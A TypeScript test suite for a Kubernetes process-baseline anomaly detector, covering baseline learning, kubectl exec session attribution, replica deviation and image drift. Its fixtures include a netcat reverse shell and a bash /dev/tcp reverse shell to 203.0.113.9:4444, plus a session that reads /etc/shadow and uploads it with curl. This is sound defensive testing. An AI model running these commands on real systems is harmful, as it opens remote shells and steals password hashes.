import { describe, expect, it } from "vitest";
import { FindingSchema, type Finding } from "@outlier/contracts";
import { MemoryBaselineStore, MemoryLabelIndex, MemoryReplicaSnapshotStore, type BaselineWrite } from "@outlier/store";
import { Detector } from "./detector.ts";
import { at, exec, execAudit } from "./test-events.ts";

const PODS = ["checkout-7d9f-a1", "checkout-7d9f-b2", "checkout-7d9f-c3"];
const COMMON = ["/usr/bin/entrypoint", "/usr/local/bin/server", "/bin/sh"];

/** An hour of ordinary work on three replicas, one exec of each common binary every 5 minutes, in time order. */
function learningHour() {
  return Array.from({ length: 12 }, (_, i) => PODS.flatMap((pod) => COMMON.map((binary) => exec({ pod, binary, minutes: i * 5 })))).flat();
}

/** Counts what the detector asks of its store. */
class CountingStore extends MemoryBaselineStore {
  loads = 0;
  readonly writes: BaselineWrite[][] = [];
  override async load(id: Parameters<MemoryBaselineStore["load"]>[0]) {
    this.loads++;
    return super.load(id);
  }
  override async write(writes: BaselineWrite[]) {
    this.writes.push(writes);
    return super.write(writes);
  }
}

async function run(detector: Detector, events: Parameters<Detector["process"]>[0]): Promise<Finding[]> {
  return [...(await detector.process(events)), ...(await detector.finish())];
}

describe("Detector", () => {
  it("learns, locks on event time, then flags a process the baseline does not contain", async () => {
    const store = new MemoryBaselineStore();
    const detector = new Detector({ store });
    const learning = await detector.process(learningHour());
    expect(learning.filter((f) => f.type === "process.unexpected")).toEqual([]);

    const findings = await detector.process([exec({ pod: PODS[0]!, binary: "/usr/bin/nc", minutes: 61 })]);
    const unexpected = findings.filter((f) => f.type === "process.unexpected");
    expect(unexpected).toHaveLength(1);
    expect(unexpected[0]).toMatchObject({ pod: PODS[0], process: { binary: "/usr/bin/nc" }, workload: { name: "checkout" } });
    expect(FindingSchema.safeParse(unexpected[0]).success).toBe(true);

    const stored = await store.load({ cluster: "c1", namespace: "shop", kind: "Deployment", name: "checkout", container: "app" });
    expect(stored?.baseline.state).toBe("locked");
    expect([...stored!.entries.values()].filter((e) => e.status === "learned").map((e) => e.binary).sort()).toEqual([...COMMON].sort());
  });

  it("keeps a kubectl exec session out of the baseline and reports it as one exec.session", async () => {
    const store = new MemoryBaselineStore();
    const detector = new Detector({ store });
    await detector.process(learningHour());
    const sh = exec({ pod: PODS[1]!, binary: "/bin/sh", minutes: 70.01, inInitTree: false, parent: "/usr/bin/runc" });
    const session = [
      execAudit(PODS[1]!, 70, ["sh"]),
      sh,
      exec({ pod: PODS[1]!, binary: "/usr/bin/curl", minutes: 70.5, inInitTree: false, parent: "/bin/sh", parentExecId: sh.id }),
    ];
    const findings = await run(detector, session);
    expect(findings.filter((f) => f.type === "process.unexpected")).toEqual([]);
    const sessions = findings.filter((f) => f.type === "exec.session");
    expect(sessions).toHaveLength(1);
    expect(JSON.stringify(sessions[0]!.evidence)).toContain("mallory@example.com");
    expect(JSON.stringify(sessions[0]!.evidence)).toContain("/usr/bin/curl");
    expect(findings.some((f) => f.type.startsWith("audit."))).toBe(false); // the session is reported once, as exec.session
    // The pod's runtime events tell its real workload and labels, which routing needs.
    expect(sessions[0]!.workload).toMatchObject({ kind: "Deployment", name: "checkout", labels: { app: "checkout" } });
    const stored = await store.load({ cluster: "c1", namespace: "shop", kind: "Deployment", name: "checkout", container: "app" });
    expect(stored?.entries.has("/usr/bin/curl")).toBe(false);
  });

  it("credits an exec session with its own process tree only: probes are probes, the application's reverse shell is unexpected", async () => {
    const probe = ["/bin/grpc_health_probe", "-addr=:8080"];
    const detector = new Detector({ store: new MemoryBaselineStore() }, { cooldownMs: 1 });
    const withProbes = new Detector(
      // The container's command is a bare shell, like the session's: the session still takes its shell.
      { store: new MemoryBaselineStore(), podSpec: () => ({ probeCommands: [probe], containerCommands: [["sh"]] }) },
      { cooldownMs: 1 },
    );
    for (const d of [detector, withProbes]) await d.process(learningHour());
    const pod = PODS[1]!;
    const sh = exec({ pod, binary: "/bin/sh", minutes: 70.01, inInitTree: false, parent: "/usr/bin/runc" });
    const reverse = exec({ pod, binary: "/bin/sh", args: "-i", minutes: 70.3, inInitTree: true, parent: "/usr/local/bin/server" });
    const events = [
      execAudit(pod, 70, ["sh"]),
      sh,
      exec({ pod, binary: "/bin/ls", args: "-la /app", minutes: 70.1, inInitTree: false, parent: "/bin/sh", parentExecId: sh.id }),
      // The kubelet's probe every 10 s while the session is open, started by runc like the session's shell.
      ...[70.05, 70.2, 70.35, 70.5].map((minutes) => exec({ pod, binary: probe[0]!, args: probe[1], minutes, inInitTree: false, parent: "/usr/bin/runc" })),
      // The application spawns a reverse shell meanwhile, in its own (init) process tree.
      reverse,
      exec({ pod, binary: "/usr/bin/nc", args: "203.0.113.9 4444 -e /bin/sh", minutes: 70.31, inInitTree: true, parent: "/bin/sh", parentExecId: reverse.id }),
    ];
    for (const d of [detector, withProbes]) {
      const findings = await run(d, events);
      const [session] = findings.filter((f) => f.type === "exec.session");
      expect(session?.evidence).toMatchObject({ execCount: 2, processes: [{ binary: "/bin/sh" }, { binary: "/bin/ls" }] });
      expect(session?.severity).toBe("medium");
      const unexpected = findings.filter((f) => f.type === "process.unexpected").map((f) => f.process?.binary);
      expect(unexpected).toContain("/usr/bin/nc");
      expect(unexpected).not.toContain("/bin/ls");
    }
    // Without the pod's probe command (and Tetragon's probe flag), a probe is judged like any process the session does not own.
    expect(withProbes.stats.get("noise", "exec-probe")).toBe(4);
    expect(withProbes.stats.get("noise", "exec-session")).toBe(2);
  });

  it("credits a Falco-fed session with its shell and the shell's children by parent pid, and not the application's shell", async () => {
    const detector = new Detector({ store: new MemoryBaselineStore() }, { cooldownMs: 1 });
    await detector.process(learningHour());
    const pod = PODS[0]!;
    const falco = (binary: string, minutes: number, parent: string, pid: number, ppid: number, args?: string) =>
      exec({ pod, binary, minutes, parent, args, falco: { pid, ppid } });
    const findings = await run(detector, [
      execAudit(pod, 70, ["bash"]),
      falco("/bin/bash", 70.01, "runc:[2:INIT]", 900, 899),
      falco("/usr/bin/id", 70.1, "bash", 901, 900),
      // Another process entering the container from outside meanwhile (Falco cannot tell a probe): not the session's command.
      falco("/usr/bin/pg_isready", 70.15, "runc:[2:INIT]", 940, 939),
      falco("/bin/bash", 70.2, "server", 950, 12, "-c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"),
    ]);
    const [session] = findings.filter((f) => f.type === "exec.session");
    expect(session?.evidence).toMatchObject({ execCount: 2, processes: [{ binary: "/bin/bash" }, { binary: "/usr/bin/id" }] });
    const unexpected = findings.filter((f) => f.type === "process.unexpected").map((f) => `${f.process?.binary} ${f.process?.args ?? ""}`.trim());
    expect(unexpected.sort()).toEqual(["/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", "/usr/bin/pg_isready"]);
  });

  it("raises a high exec.session for a session that read /etc/shadow and uploaded it", async () => {
    const detector = new Detector({ store: new MemoryBaselineStore() });
    await detector.process(learningHour());
    const pod = PODS[2]!;
    const sh = exec({ pod, binary: "/bin/sh", minutes: 70.01, inInitTree: false, parent: "/usr/bin/runc" });
    const child = (binary: string, args: string, minutes: number) => exec({ pod, binary, args, minutes, inInitTree: false, parent: "/bin/sh", parentExecId: sh.id });
    const findings = await run(detector, [
      execAudit(pod, 70, ["sh"]),
      sh,
      child("/bin/cat", "/etc/shadow", 70.2),
      child("/usr/bin/curl", "-s -T - https://203.0.113.50/u", 70.2),
    ]);
    const [session] = findings.filter((f) => f.type === "exec.session");
    expect(session).toMatchObject({ severity: "high", evidence: { riskyProcesses: [{ binary: "/bin/cat" }, { binary: "/usr/bin/curl" }] } });
    expect(session?.summary).toContain("reads the password hashes (/etc/shadow), moves data out (curl -T)");
  });

  it("keeps an exec's processes out of the baseline and of process.unexpected when its audit event comes batches later", async () => {
    const store = new MemoryBaselineStore();
    const detector = new Detector({ store });
    await detector.process(learningHour());
    const fromOutside = (binary: string, minutes: number) => exec({ pod: PODS[1]!, binary, minutes, inInitTree: false, parent: "/usr/bin/runc" });
    const sh = fromOutside("/bin/sh", 70.01);
    const curl = exec({ pod: PODS[1]!, binary: "/usr/bin/curl", minutes: 70.1, inInitTree: false, parent: "/bin/sh", parentExecId: sh.id });
    // From outside too, in the same pod, but neither the session's command nor below its shell.
    const stranger = fromOutside("/usr/bin/nc", 70.05);
    // The runtime events come first; the audit webhook's batch 20 s later (its time is the request's, before the processes).
    const first = await detector.process([sh, stranger, curl]);
    expect([sh, stranger, curl].map((e) => detector.isDeferred(e.id))).toEqual([true, true, true]);
    const later = await detector.process([execAudit(PODS[1]!, 70, ["sh"]), exec({ pod: PODS[0]!, binary: "/bin/sh", minutes: 70.4 })]);
    expect(detector.isDeferred(sh.id)).toBe(false);
    expect(detector.isDeferred(stranger.id)).toBe(true);
    const findings = [...first, ...later, ...(await detector.finish())];
    expect(findings.filter((f) => f.type === "process.unexpected").map((f) => f.process?.binary)).toEqual(["/usr/bin/nc"]);
    const [session] = findings.filter((f) => f.type === "exec.session");
    expect(session?.evidence).toMatchObject({ execCount: 2, processes: [{ binary: "/bin/sh" }, { binary: "/usr/bin/curl" }] });
    const stored = await store.load({ cluster: "c1", namespace: "shop", kind: "Deployment", name: "checkout", container: "app" });
    expect(stored?.entries.has("/usr/bin/curl")).toBe(false);
  });

  it("judges an exec from outside that no session claims once its grace window has passed", async () => {
    const detector = new Detector({ store: new MemoryBaselineStore() });
    await detector.process(learningHour());
    const intruder = exec({ pod: PODS[2]!, binary: "/usr/bin/nc", minutes: 70, inInitTree: false, parent: "/usr/bin/runc" });
    expect(await detector.process([intruder])).toEqual([]);
    // 30 s on: still waiting for an audit event.
    expect(await detector.process([exec({ pod: PODS[0]!, binary: "/bin/sh", minutes: 70.5 })])).toEqual([]);
    const findings = await detector.process([exec({ pod: PODS[0]!, binary: "/bin/sh", minutes: 71.1 })]);
    expect(findings.filter((f) => f.type === "process.unexpected").map((f) => [f.pod, f.process?.binary])).toEqual([[PODS[2], "/usr/bin/nc"]]);
    expect(detector.stats.get("noise", "deferred")).toBe(1);
  });

  it("hands its deferred execs over to the detector that replaces it", async () => {
    const store = new MemoryBaselineStore();
    const first = new Detector({ store });
    await first.process(learningHour());
    const intruder = exec({ pod: PODS[2]!, binary: "/usr/bin/nc", minutes: 70, inInitTree: false, parent: "/usr/bin/runc" });
    await first.process([intruder]);
    const second = new Detector({ store });
    second.adoptDeferred(first);
    expect(second.isDeferred(intruder.id)).toBe(true);
    const findings = await second.process([exec({ pod: PODS[0]!, binary: "/bin/sh", minutes: 72 })]);
    expect(findings.filter((f) => f.type === "process.unexpected").map((f) => f.process?.binary)).toEqual(["/usr/bin/nc"]);
  });

  it("keeps a person's approval that lands while it judges with its older view of the entry", async () => {
    const store = new MemoryBaselineStore();
    const detector = new Detector({ store }, { cooldownMs: 1 });
    const id = { cluster: "c1", namespace: "shop", kind: "Deployment" as const, name: "checkout", container: "app" };
    const nc = (minutes: number) => exec({ pod: PODS[0]!, binary: "/usr/bin/nc", minutes });
    await detector.process(learningHour());
    expect((await detector.process([nc(61)])).map((f) => f.type)).toContain("process.unexpected");
    // A person approves; this detector hears of it only after its next batch is written.
    const pending = (await store.load(id))!.entries.get("/usr/bin/nc")!;
    await store.write([{ id, byPerson: true, upsert: [{ ...pending, status: "approved" }] }]);
    await detector.process([nc(76)]);
    detector.invalidate("c1/shop/Deployment/checkout|app");
    expect((await detector.process([nc(91)])).filter((f) => f.type === "process.unexpected")).toEqual([]);
    expect((await store.load(id))?.entries.get("/usr/bin/nc")?.status).toBe("approved");
  });

  it("flags the replica that runs what its peers do not, while still learning", async () => {
    const detector = new Detector({ store: new MemoryBaselineStore() }, { replicaCheckEveryMs: 60_000 });
    const events = [...learningHour().filter((e) => e.time <= at(20)), exec({ pod: PODS[2]!, binary: "/tmp/miner", minutes: 21 })];
    events.push(...PODS.flatMap((pod) => COMMON.map((binary) => exec({ pod, binary, minutes: 22.5 }))));
    const findings = await run(detector, events);
    const deviations = findings.filter((f) => f.type === "replica.deviation");
    expect(deviations.map((f) => f.pod)).toEqual([PODS[2]]);
    expect(deviations[0]!.evidence).toMatchObject({ uniqueUnknownBinaries: ["/tmp/miner"] });
  });

  it("gives the same findings with the same ids on a second run of the same events", async () => {
    const events = [...learningHour(), exec({ pod: PODS[0]!, binary: "/usr/bin/nc", minutes: 61 })];
    const a = await run(new Detector({ store: new MemoryBaselineStore() }), events);
    const b = await run(new Detector({ store: new MemoryBaselineStore() }), events);
    expect(b.map((f) => f.id)).toEqual(a.map((f) => f.id));
    expect(a.length).toBeGreaterThan(0);
  });

  it("loads a baseline once and writes once per batch", async () => {
    const store = new CountingStore();
    const detector = new Detector({ store });
    await detector.process(learningHour());
    await detector.process(learningHour());
    expect(store.loads).toBe(1);
    expect(store.writes).toHaveLength(2);
  });

  it("reloads a baseline that a person changed", async () => {
    const store = new MemoryBaselineStore();
    const detector = new Detector({ store });
    await detector.process(learningHour());
    const id = { cluster: "c1", namespace: "shop", kind: "Deployment" as const, name: "checkout", container: "app" };
    const stored = (await store.load(id))!;
    const nc = { ...stored.entries.get("/bin/sh")!, binary: "/usr/bin/nc", status: "approved" as const };
    await store.write([{ id, upsert: [nc] }]);
    detector.invalidate("c1/shop/Deployment/checkout|app");
    const findings = await detector.process([exec({ pod: PODS[0]!, binary: "/usr/bin/nc", minutes: 61 })]);
    expect(findings.filter((f) => f.type === "process.unexpected")).toEqual([]);
  });

  it("leaves workload labels for the review CLI, and its replica window when asked and at the end of a replay", async () => {
    const labels = new MemoryLabelIndex();
    const replicaSnapshots = new MemoryReplicaSnapshotStore();
    const detector = new Detector({ store: new MemoryBaselineStore(), labels, replicaSnapshots });
    await detector.process(learningHour());
    const workload = { cluster: "c1", namespace: "shop", kind: "Deployment" as const, name: "checkout" };
    const id = { ...workload, container: "app" };
    expect(await labels.getLabels(workload)).toEqual({ app: "checkout" });
    expect(await replicaSnapshots.get(id)).toBeUndefined(); // nothing deviated, nobody asked

    expect(await detector.writeReplicaSnapshot("c1/shop/Deployment/checkout|sidecar")).toBe(false);
    expect(await detector.writeReplicaSnapshot("c1/shop/Deployment/checkout|app")).toBe(true);
    const asked = await replicaSnapshots.get(id);
    expect(asked?.pods.map((p) => p.pod)).toEqual(PODS);
    expect(asked?.deviations).toEqual([]);
    expect(asked?.time).toBe(at(55));

    const replayed = new MemoryReplicaSnapshotStore();
    const replay = new Detector({ store: new MemoryBaselineStore(), replicaSnapshots: replayed });
    await run(replay, learningHour());
    expect((await replayed.get(id))?.pods.map((p) => p.pod)).toEqual(PODS);
  });

  it("keeps the window of an unexpected process run by one replica, as it was then, for outlier replicas", async () => {
    const replicaSnapshots = new MemoryReplicaSnapshotStore();
    const detector = new Detector({ store: new MemoryBaselineStore(), replicaSnapshots });
    const id = { cluster: "c1", namespace: "shop", kind: "Deployment" as const, name: "checkout", container: "app" };
    // One batch: the miner, then ten more minutes of ordinary work that a later window would show instead.
    const later = [62, 66, 70].flatMap((minutes) => PODS.map((pod) => exec({ pod, binary: "/bin/sh", minutes })));
    const busy = PODS.map((pod) => exec({ pod, binary: "/bin/sh", minutes: 60 }));
    const findings = await detector.process([...learningHour(), ...busy, exec({ pod: PODS[2]!, binary: "/tmp/xmrig", minutes: 61 }), ...later]);
    expect(findings.filter((f) => f.type === "process.unexpected")).toHaveLength(1);
    const kept = await replicaSnapshots.lastDeviation(id);
    expect(kept?.time).toBe(at(61));
    expect(kept?.deviations.map((d) => [d.pod, d.uniqueUnknownBinaries])).toEqual([[PODS[2], ["/tmp/xmrig"]]]);
  });

  it("writes a new entry at once but the baseline's entry count only with the flush, and counts the stored entries on reload", async () => {
    const store = new CountingStore();
    const id = { cluster: "c1", namespace: "shop", kind: "Deployment" as const, name: "checkout", container: "app" };
    const detector = new Detector({ store }, { entryFlushMs: 5 * 60_000 });
    await detector.process([exec({ pod: PODS[0]!, binary: "/usr/local/bin/server", minutes: 0 })]);
    await detector.process(PODS.map((pod) => exec({ pod, binary: "/bin/date", minutes: 1 })));
    const second = store.writes[1]!;
    expect(second.flatMap((w) => w.upsert ?? []).map((e) => e.binary)).toEqual(["/bin/date"]);
    expect(second.some((w) => w.baseline)).toBe(false);
    expect((await store.load(id))?.baseline.entryCount).toBe(1);

    const reloaded = new Detector({ store }, { entryFlushMs: 5 * 60_000 });
    await reloaded.process([exec({ pod: PODS[0]!, binary: "/bin/ls", minutes: 7 })]);
    expect((await store.load(id))?.baseline.entryCount).toBe(3);
  });

  it("writes a busy known entry's counters at most every entryFlushMs of event time", async () => {
    const store = new CountingStore();
    const detector = new Detector({ store }, { entryFlushMs: 5 * 60_000 });
    const minute = (m: number) => PODS.map((pod) => exec({ pod, binary: "/usr/local/bin/server", minutes: m }));
    for (const m of [0, 1, 2, 3, 4, 5, 6]) await detector.process(minute(m));
    expect(store.writes.map((w) => w.reduce((n, x) => n + (x.upsert?.length ?? 0), 0))).toEqual([1, 0, 0, 0, 0, 1, 0]);
    const stored = await store.load({ cluster: "c1", namespace: "shop", kind: "Deployment", name: "checkout", container: "app" });
    expect(stored?.entries.get("/usr/local/bin/server")?.count).toBe(18);
  });

  it("reports a binary run on one replica while learning at once, as severe as its risk features", async () => {
    const detector = new Detector({ store: new MemoryBaselineStore() });
    await detector.process(learningHour().filter((e) => e.time <= at(20)));
    const miner = await detector.process([exec({ pod: PODS[2]!, binary: "/tmp/miner", minutes: 21 })]);
    expect(miner.map((f) => [f.type, f.severity, f.pod, f.time])).toEqual([["replica.deviation", "high", PODS[2], at(21)]]);
    expect(miner[0]!.evidence).toMatchObject({ reasons: ["unique-unknown-binary"], uniqueUnknownBinaries: ["/tmp/miner"], risk: ["runs from a world-writable or memory-backed directory"] });
    expect(miner[0]!.summary).toContain("world-writable");
    expect(miner[0]!.process?.binary).toBe("/tmp/miner");

    // No risk feature: a review, held until the hold shows that no peer runs it too (a job at its own time on each replica).
    expect(await detector.process([exec({ pod: PODS[1]!, binary: "/usr/bin/jq", minutes: 22 })])).toEqual([]);
    const later = await detector.process(learningHour().filter((e) => e.time > at(22)));
    expect(later.map((f) => [f.type, f.severity, f.time])).toEqual([["replica.deviation", "low", at(22)]]);
    expect(later[0]!.evidence.action).toMatch(/^review/);
    // Pending, reported once: later checks do not report it again.
    expect(await run(detector, PODS.flatMap((pod) => COMMON.map((binary) => exec({ pod, binary, minutes: 61 }))))).toEqual([]);
  });

  it("sends a held review when it is due even if its workload runs nothing more", async () => {
    const detector = new Detector({ store: new MemoryBaselineStore() });
    await detector.process([...learningHour().filter((e) => e.time <= at(20)), exec({ pod: PODS[1]!, binary: "/usr/bin/jq", minutes: 21 })]);
    const elsewhere = (minutes: number) => exec({ pod: "cart-1", workload: "cart", binary: "/usr/local/bin/cart", minutes });
    expect(await detector.process([elsewhere(40)])).toEqual([]);
    const due = await detector.process([elsewhere(52)]);
    expect(due.map((f) => [f.type, f.severity, f.pod, f.time])).toEqual([["replica.deviation", "low", PODS[1], at(21)]]);
  });

  it("still reports a one-off on a pod the replica window dropped (over its pod limit), without scores", async () => {
    const detector = new Detector({ store: new MemoryBaselineStore() });
    const pods = Array.from({ length: 257 }, (_, i) => `checkout-7d9f-${i}`);
    await detector.process(pods.map((pod) => exec({ pod, binary: "/usr/local/bin/server", minutes: 1 })));
    const findings = await detector.process([exec({ pod: pods[256]!, binary: "/tmp/miner", minutes: 2 })]);
    expect(findings.map((f) => [f.type, f.severity, f.pod])).toEqual([["replica.deviation", "high", pods[256]]]);
    expect(findings[0]!.evidence).toMatchObject({ peers: [], execRate: { z: 0 } });
  });

  it("learns a leader's task as a singleton after one low review finding, also when leadership moves to a replacement pod", async () => {
    const store = new MemoryBaselineStore();
    const detector = new Detector({ store });
    const leader = (pod: string, minutes: number) => exec({ pod, binary: "/usr/bin/reconcile", minutes });
    const events = [...learningHour(), ...learningHour().map((e) => ({ ...e, id: `${e.id}-2`, time: at(60 + (timeMinutes(e.time) ?? 0)) }))];
    for (let m = 2; m < 120; m += 7) events.push(leader(m < 80 ? PODS[0]! : "checkout-7d9f-d4", m));
    // The leader's pod is replaced at minute 80: its successor runs what the others run.
    for (let m = 80; m < 120; m += 5) events.push(...COMMON.map((binary) => exec({ pod: "checkout-7d9f-d4", binary, minutes: m })));
    const findings = await run(detector, events.sort((a, b) => (a.time < b.time ? -1 : 1)));
    expect(findings.map((f) => [f.type, f.severity, f.pod, f.evidence.singleton])).toEqual([["replica.deviation", "low", PODS[0], true]]);
    expect(findings[0]!.summary).toContain("singleton task");
    const stored = await store.load({ cluster: "c1", namespace: "shop", kind: "Deployment", name: "checkout", container: "app" });
    expect(stored?.entries.get("/usr/bin/reconcile")).toMatchObject({ status: "learned", singleton: true });
  });

  it("says nothing of a job every replica runs at its own time, of a burst of known work, or of a young replacement pod", async () => {
    const detector = new Detector({ store: new MemoryBaselineStore() });
    const events = [...learningHour()];
    for (let m = 0; m < 150; m += 20) PODS.forEach((pod, i) => events.push(exec({ pod, binary: "/usr/bin/cleanup", minutes: m + i * 6 })));
    for (let m = 60; m < 150; m += 5) events.push(...PODS.flatMap((pod) => COMMON.map((binary) => exec({ pod, binary, minutes: m }))));
    for (let i = 0; i < 3000; i++) events.push({ ...exec({ pod: PODS[1]!, binary: "/bin/sh", minutes: 100 + i / 3000 }), id: `burst-${i}` });
    for (let m = 120; m < 150; m += 1) events.push(...COMMON.map((binary) => exec({ pod: "checkout-7d9f-e5", binary, minutes: m })));
    const findings = await run(detector, events.sort((a, b) => (a.time < b.time ? -1 : 1)));
    expect(findings.map((f) => [f.type, f.pod, f.summary])).toEqual([]);
  });

  it("reports a new image's new binary as low drift, for a rollout and for a canary, learning or locked, and compares a canary with its own image only", async () => {
    for (const start of [40, 70, 100]) {
      const detector = new Detector({ store: new MemoryBaselineStore() });
      const events = [...learningHour()];
      for (let m = 60; m < start + 30; m += 5) events.push(...PODS.flatMap((pod) => COMMON.map((binary) => exec({ pod, binary, minutes: m }))));
      // A canary on the new image next to the old replicas, then (at +15) two more new pods.
      const onNew = (pod: string, binary: string, minutes: number) => exec({ pod, binary, minutes, digest: "sha256:bbb" });
      for (let m = start; m < start + 30; m += 3) {
        const pods = m < start + 15 ? ["checkout-8a8a-n1"] : ["checkout-8a8a-n1", "checkout-8a8a-n2", "checkout-8a8a-n3"];
        events.push(...pods.flatMap((pod) => [...COMMON, "/usr/bin/envsubst"].map((binary) => onNew(pod, binary, m + 0.5))));
      }
      const findings = await run(detector, events.sort((a, b) => (a.time < b.time ? -1 : 1)));
      expect(findings.map((f) => [f.type, f.severity]), `rollout at minute ${start}`).toEqual([["baseline.drift", "low"]]);
      expect(findings[0]!.evidence).toMatchObject({ imageDigest: "sha256:bbb", previousImageDigest: "sha256:aaa", imageDiff: ["/usr/bin/envsubst"] });
    }
  });
});

function timeMinutes(time: string): number | undefined {
  return (Date.parse(time) - Date.parse(at(0))) / 60_000;
}
